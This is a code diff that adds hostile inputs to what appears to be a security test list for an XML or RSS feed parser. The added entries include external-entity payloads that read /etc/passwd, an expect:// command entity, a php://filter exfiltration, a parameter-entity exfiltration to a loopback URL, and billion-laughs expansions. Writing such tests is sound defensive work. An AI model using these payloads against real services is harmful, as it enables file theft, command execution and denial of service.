@@ -36,5 +36,41 @@ export const xml: readonly (readonly [what: string, text: string])[] = [
   ['references that do not end', feed('&#'.repeat(200_000))],
   ['a number beyond all characters', feed('&#99999999999999999999;&#xFFFFFFFFFF;')],
   ['a name that is very long', feed(`<${'n'.repeat(500_000)}/>`)],
+  [
+    'a file in an attribute',
+    feed('x', '<!DOCTYPE rss [<!ENTITY a SYSTEM "file:///etc/passwd">]>').replace('<item>', '<item x="&a;">'),
+  ],
+  ['a program', feed('&a;', '<!DOCTYPE rss [<!ENTITY a SYSTEM "expect://id">]>')],
+  [
+    'a filter of PHP',
+    feed('&a;', '<!DOCTYPE rss [<!ENTITY a SYSTEM "php://filter/read=convert.base64-encode/resource=/etc/passwd">]>'),
+  ],
+  [
+    'a document type that stands on the machine',
+    feed(
+      'x',
+      '<!DOCTYPE rss [<!ENTITY % a SYSTEM "file:///usr/share/xml/fontconfig/fonts.dtd"><!ENTITY % constant "aaa)><!ENTITY &#x25; f SYSTEM &#x22;file:///etc/passwd&#x22;><!ELEMENT b (c"> %a;]>',
+    ),
+  ],
+  [
+    'a parameter that is sent away',
+    feed(
+      'x',
+      '<!DOCTYPE rss [<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % e "<!ENTITY &#x25; s SYSTEM \'http://127.0.0.1:1/?%f;\'>">%e;%s;]>',
+    ),
+  ],
+  [
+    'a default of an attribute',
+    feed('x', '<!DOCTYPE rss [<!ENTITY a SYSTEM "file:///etc/passwd"><!ATTLIST item x CDATA "&a;">]>'),
+  ],
+  ['laughs in an attribute', feed('x', `<!DOCTYPE rss [${laughs(9)}]>`).replace('<item>', '<item x="&a9;">')],
+  ['laughs that stand below a second document type', feed('&a9;', `<!DOCTYPE rss><!DOCTYPE rss [${laughs(9)}]>`)],
+  ['laughs behind a comment', feed('&a9;', `<!-- <!DOCTYPE rss> --><!DOCTYPE rss [${laughs(9)}]>`)],
+  [
+    'a place of its schema',
+    feed('<b xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="x http://127.0.0.1:1/x.xsd"/>'),
+  ],
+  ['a document type that does not end', `<?xml version="1.0"?><!DOCTYPE rss [${'<!ENTITY a "'.repeat(50_000)}`],
+  ['instructions without end', feed('<?a ?>'.repeat(50_000))],
   ['zeros of another encoding', `\u0000${feed('x').split('').join('\u0000')}`],
 ];
